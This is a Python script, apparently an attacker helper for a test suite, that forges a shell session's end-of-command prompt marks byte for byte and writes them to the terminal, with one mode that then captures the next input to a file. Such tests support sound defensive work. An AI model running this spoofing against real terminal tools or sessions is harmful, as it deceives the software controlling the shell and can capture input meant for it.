"""A program that learns how a session marks the end of a command and forges the marks. Run inside the session.

usage: attacker.py CODE probe|once|twice|for SECONDS|then-read FILE

It knows the prompts as the shell has printed them (A_PS1P, A_PS0P) and the number of its command (A_NUMBER), which the
test's command line gives it. From these it makes marks that are byte for byte those of the shell, with every likely
number, and writes them to the terminal.
"""

from __future__ import annotations

import itertools
import os
import re
import sys
import time


def renumbered(sample: bytes, code: int, number: int) -> set[bytes]:
    """A mark that was already expanded, with its two decimal fields replaced in both orders."""
    fields = list(re.finditer(rb"(?<![0-9A-Za-z])\d{1,6}(?![0-9A-Za-z])", sample))
    out = {sample}
    for x, y in itertools.combinations(fields, 2):
        before, between, behind = sample[: x.start()], sample[x.end() : y.start()], sample[y.end() :]
        for first, second in ((code, number), (number, code)):
            out.add(b"%b%d%b%d%b" % (before, first, between, second, behind))
    return out


def marks(code: int) -> list[bytes]:
    here = int(os.environ["A_NUMBER"])
    out: set[bytes] = set()
    for name in (b"A_PS1P", b"A_PS0P"):
        for number in range(max(0, here - 1), here + 4):
            out |= renumbered(os.environb[name], code, number)
    return sorted(m for m in out if m)


def main() -> None:
    code, mode = int(sys.argv[1]), sys.argv[2]
    forged = marks(code)
    if mode == "probe":
        print(len(forged), sum(b"\x1b" in m for m in forged))
        return
    blob = b"".join(forged)
    if mode == "for":
        end = time.monotonic() + float(sys.argv[3])
        while time.monotonic() < end:
            for mark in forged:
                os.write(1, mark)
            time.sleep(0.0005)
        return
    os.write(1, blob)
    if mode == "twice":
        time.sleep(0.05)
        os.write(1, blob + blob)
    if mode == "then-read":
        with open(sys.argv[3], "wb", 0) as log:
            log.write(os.read(0, 4096))


if __name__ == "__main__":
    main()
